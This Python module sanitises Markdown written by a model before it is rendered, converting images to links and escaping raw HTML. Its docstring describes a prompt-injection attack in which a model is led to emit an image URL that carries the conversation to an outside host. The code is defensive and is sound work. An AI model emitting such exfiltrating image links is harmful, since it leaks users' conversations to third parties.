"""Markdown from a model (or a client) made safe to render: no image fetched, no raw HTML, code left as written.

A model can be prompt-injected into writing `![x](https://elsewhere/?leak=<the conversation>)`: rendered, the
visitor's browser would fetch it on its own. Here every image becomes a plain link (shown, fetched only if
clicked), and raw HTML tags are escaped so that they show as text (the page's Content-Security-Policy is the
backstop for anything that gets past this). Code spans and fenced code blocks are left exactly as they are: there,
Markdown already shows `<` and `!` as text.
"""

from __future__ import annotations

import re

__all__ = ["safe_markdown"]

# A fenced block (``` or ~~~, to its closing fence or the end of the text), or an inline code span.
# A code span cannot open on an escaped backtick, nor run across a blank line (it would not be one in CommonMark,
# and what it seemed to protect would render).
_CODE = re.compile(
    r"(?P<fence>^[ \t]{0,3}(?P<marks>`{3,}|~{3,})[^\n]*\n(?:.*?\n)??[ \t]{0,3}(?P=marks)[`~]*[ \t]*(?:\n|$)"
    r"|^[ \t]{0,3}(?:`{3,}|~{3,})[^\n]*(?:\n.*)?\Z)"
    r"|(?P<span>(?<!\\)(?P<ticks>`+)(?!`)(?:(?!\n[ \t]*\n).)+?(?<!`)(?P=ticks)(?!`))",
    re.MULTILINE | re.DOTALL,
)
# `![alt](...)` and `![alt][ref]`: every `!` right before the `[` goes, so that no run of them leaves one that
# still makes an image (`!![x](u)`), and a link is left.
_IMAGE = re.compile(r"!+(?=\[)")
# The start of an HTML tag, comment, declaration or processing instruction.
_TAG = re.compile(r"<(?=[A-Za-z/!?])")
# An HTML <img> (or <image>, <source>, <video>...) with a src, turned into a link to it.
_MEDIA_TAG = re.compile(
    r"<(?:img|image|source|video|audio|picture|iframe|embed|object)\b[^>]*?\b(?:src|href|data|poster)\s*=\s*"
    r"(?:\"([^\"]*)\"|'([^']*)'|([^\s>]+))[^>]*>",
    re.IGNORECASE,
)


def _outside_code(text: str) -> str:
    text = _MEDIA_TAG.sub(_media_link, text)
    text = _IMAGE.sub("", text)
    return _TAG.sub("&lt;", text)


def _media_link(match: re.Match[str]) -> str:
    url = next(group for group in match.groups() if group is not None).strip()
    if not url:
        return ""
    # Characters that would end the link's destination early are percent-encoded.
    for char, code in (("<", "%3C"), (">", "%3E"), (" ", "%20"), ("(", "%28"), (")", "%29")):
        url = url.replace(char, code)
    return f"[image]({url})"


def safe_markdown(text: str) -> str:
    """`text` with images as links and raw HTML shown as text, outside code."""
    if "!" not in text and "<" not in text:
        return text  # the common case, on every streamed update
    out: list[str] = []
    last = 0
    for match in _CODE.finditer(text):
        out.append(_outside_code(text[last : match.start()]))
        out.append(match.group(0))
        last = match.end()
    out.append(_outside_code(text[last:]))
    return "".join(out)
